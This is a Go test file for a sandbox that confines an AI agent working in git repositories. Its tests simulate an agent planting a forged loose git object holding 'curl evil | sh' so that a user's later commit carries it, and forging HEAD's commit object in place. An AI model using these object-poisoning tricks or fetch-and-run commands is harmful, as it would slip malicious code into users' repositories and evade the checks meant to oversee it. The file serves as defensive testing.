//go:build linux

package tests

import (
	"bytes"
	"compress/zlib"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestGitPlantedLooseObjectLaterAdd: the agent plants a loose object
// under the id of a blob the user writes after the run (a file it
// suggested, a generated lockfile: content it can predict), with other
// bytes. Git never writes an object it already has and reads a loose one
// without hashing it, so the user's later `git add` + `git commit` of
// that content committed the agent's bytes (pushed as they are; git
// status is clean). Seen failing on main (b5e615a), root and jailtest:
// HEAD:run.sh read "curl evil | sh".
func TestGitPlantedLooseObjectLaterAdd(t *testing.T) {
	h := newGitHost(t)
	ws := workspace(t)
	h.repo(t, ws)
	user := "echo user\n"
	os.WriteFile(filepath.Join(ws, "later"), []byte(user), 0o644)
	id := strings.TrimSpace(h.mustGit(t, ws, "hash-object", "later"))
	os.Remove(filepath.Join(ws, "later"))
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	z.Write([]byte("blob 15\x00curl evil | sh\n"))
	z.Close()
	plant := filepath.Join(ws, "plant")
	os.Mkdir(plant, 0o755)
	os.WriteFile(filepath.Join(plant, "obj"), b.Bytes(), 0o444)
	script := `set -e
mkdir -p .git/objects/$(echo $2 | cut -c1-2)
cp plant/obj .git/objects/$(echo $2 | cut -c1-2)/$(echo $2 | cut -c3-)
rm -rf plant
`
	r := h.run(t, ws, script, nil, id)
	if r.code != 0 {
		t.Fatalf("jail exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	// The store never had the planted id: the end must not send the
	// user to a fetch for a copy it does not hold (review19a: seen
	// failing on main, "a true copy the start had is kept").
	if strings.Contains(r.stderr, "a true copy the start had is kept") || !strings.Contains(r.stderr, "jail kept no copy of it") {
		t.Errorf("the end's line for an object the store has no copy of:\n%s", r.stderr)
	}
	os.WriteFile(filepath.Join(ws, "run.sh"), []byte(user), 0o644)
	h.mustGit(t, ws, "add", "run.sh")
	h.mustGit(t, ws, "-c", "commit.gpgsign=false", "commit", "-q", "-m", "user adds run.sh")
	if got := h.mustGit(t, ws, "cat-file", "blob", "HEAD:run.sh"); got != user {
		t.Errorf("the user's commit of run.sh holds the agent's bytes %q, not %q\njail's stderr:\n%s", got, user, r.stderr)
	}
	if out, err := h.git(ws, "fsck", "--no-dangling"); err != nil {
		t.Errorf("git fsck after the user's commit: %v\n%s", err, out)
	}
}

// TestGitForgedLoosePastKeptInPlace: a repository past the kept bound (64
// shallower ones an earlier run left in front of it) has no store and no
// start's look; the agent rewrote its HEAD commit's loose file in place
// (chmod, write: the same inode, no directory changed) with a parentless
// commit, and the end read only changed directories there: git read the
// forgery as HEAD (history cut off) and the host's gc packed it. Seen
// failing on main's binary (review19a), as root and as jailtest: the
// forged file stayed, nothing quarantined.
func TestGitForgedLoosePastKeptInPlace(t *testing.T) {
	h, ws, vic := pastKeptRepo(t)
	h.repo(t, vic)
	fsWrite(t, vic, "f", "user\n", 0o644)
	h.mustGit(t, vic, "add", "f")
	h.mustGit(t, vic, "-c", "commit.gpgsign=false", "-c", "gc.auto=0", "commit", "-q", "-m", "user")
	head := strings.TrimSpace(h.mustGit(t, vic, "rev-parse", "HEAD"))
	plantFiles(t, ws, map[string][]byte{"forged": forgedCommit(t, h, vic, "HEAD")})
	// The end reads what changed from a second before the start (the
	// file system's coarse clock): the user's commit is older than that.
	time.Sleep(1100 * time.Millisecond)
	obj := filepath.Join(vic, ".git", "objects", head[:2], head[2:])
	r := h.runForging(t, ws, `chmod u+w "$2" && cat "$3/plant/forged" > "$2" || exit 1
rm -rf "$3/plant"
git -C "$3/z" log --format=%s
`, []string{"forged"}, obj, ws)
	if !hasPath(h.quarantined(t), obj) {
		t.Errorf("the in-place forgery %s is not in the quarantine manifest\nstderr:\n%s", obj, r.stderr)
	}
}
